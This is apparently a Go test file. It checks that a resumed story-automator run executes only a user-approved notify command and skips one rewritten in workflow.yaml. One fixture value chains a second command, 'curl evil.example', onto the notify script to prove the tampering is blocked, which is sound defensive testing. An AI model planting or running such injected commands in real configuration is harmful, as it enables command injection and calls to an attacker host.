package main

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/story-automator/story-automator/internal/approval"
	"github.com/story-automator/story-automator/notify"
	"github.com/story-automator/story-automator/orchestrator"
	"github.com/story-automator/story-automator/workflows"
)

func TestGateNotifyCommand(t *testing.T) {
	st := approval.Store{Dir: t.TempDir()}
	n := workflows.Notify{Desktop: true, Command: "./notify.sh"}
	if got, w := gateNotifyCommand(n, st, nil, false); got.Command != "" || !strings.Contains(w, "not one you approved") {
		t.Fatalf("a resumed run ran a command never approved: %+v %q", got, w)
	}
	if got, w := gateNotifyCommand(n, st, nil, true); got.Command != n.Command || !got.Desktop || w != "" {
		t.Fatalf("a new run: %+v %q", got, w)
	}
	if got, w := gateNotifyCommand(n, st, nil, false); got.Command != n.Command || !got.Desktop || w != "" {
		t.Fatalf("a resumed run dropped the approved command: %+v %q", got, w)
	}
	changed := n
	changed.Command = "./notify.sh; curl evil.example"
	got, w := gateNotifyCommand(changed, st, nil, false)
	if got.Command != "" || !got.Desktop || !strings.Contains(w, workflows.PolicyFile) || !strings.Contains(w, "story-automator notify test") {
		t.Fatalf("a changed command: %+v %q", got, w)
	}
	// No state folder: a new run still runs its command (you typed it), and says a resume will not.
	if got, w := gateNotifyCommand(n, approval.Store{}, errors.New("no HOME"), true); got.Command != n.Command || !strings.Contains(w, "a resumed run will skip it") {
		t.Fatalf("no state folder: %+v %q", got, w)
	}
	if got, _ := gateNotifyCommand(workflows.Notify{Desktop: true}, st, nil, false); !got.Desktop {
		t.Fatal("a policy without a command changed")
	}
}

// issue 34: a child can rewrite workflow.yaml's notify command, and a
// resumed run reads it again. The run sends to the command the user
// approved (a new run, or `notify test`), and skips a changed one while its
// other sinks still send.
func TestAResumedRunRunsOnlyAnApprovedNotifyCommand(t *testing.T) {
	hook := newHookReceiver(t)
	root := t.TempDir()
	state := t.TempDir()
	var logged bytes.Buffer
	var out bytes.Buffer
	s := testStreams(root, &out)
	s.Getenv = func(k string) string { return map[string]string{"XDG_STATE_HOME": state}[k] }
	s.Environ = os.Environ
	e := &runtimeEnv{Streams: s, ProjectRoot: root, Log: zerolog.New(zerolog.SyncWriter(&logged))}
	setCommand := func(file string) {
		t.Helper()
		policy := "notify:\n  webhook: " + hook.URL + "/hook\n  command: touch " + filepath.Join(root, file) + "\n"
		if err := os.MkdirAll(filepath.Join(root, workflows.StateDir), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, workflows.PolicyFile), []byte(policy), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	send := func(approve bool) []notify.Outcome {
		t.Helper()
		n := newRunNotifier(e, nil, &orchestrator.ActionLog{}, approve)
		if n == nil {
			t.Fatal("no notifier: the webhook alone must still send")
		}
		return n.sender.SendNow(context.Background(), notify.Test(notify.Run{Project: root}, e.Now()))
	}
	exists := func(file string) bool {
		_, err := os.Stat(filepath.Join(root, file))
		return err == nil
	}

	setCommand("original")
	send(true) // the run the user started
	if !exists("original") {
		t.Fatal("a new run did not run its notify command")
	}
	if err := os.Remove(filepath.Join(root, "original")); err != nil {
		t.Fatal(err)
	}
	send(false) // --resume, workflow.yaml unchanged: the positive control
	if !exists("original") {
		t.Fatal("a resumed run did not run the approved notify command")
	}

	setCommand("planted") // a child's edit before --resume
	webhooksBefore := len(hook.requests())
	outs := send(false)
	if len(hook.requests()) != webhooksBefore+1 || len(outs) != 1 || outs[0].Sink == "command" {
		t.Fatalf("the other sinks must send, the command not: %+v", outs)
	}
	if exists("planted") {
		t.Fatal("a resumed run ran a notify command changed in workflow.yaml")
	}
	if w := logged.String(); !strings.Contains(w, "not one you approved") || !strings.Contains(w, "notify test") ||
		!strings.Contains(w, filepath.Join(root, workflows.PolicyFile)) {
		t.Fatalf("the warning must name the file and how to approve: %s", w)
	}

	// `notify test`, run by hand, approves the command as it is now.
	if code := Run([]string{"notify", "test", "--json"}, s); code != 0 || !exists("planted") {
		t.Fatalf("notify test exited %d: %s", code, out.String())
	}
	if err := os.Remove(filepath.Join(root, "planted")); err != nil {
		t.Fatal(err)
	}
	send(false)
	if !exists("planted") {
		t.Fatal("a resumed run did not run the command notify test approved")
	}
}
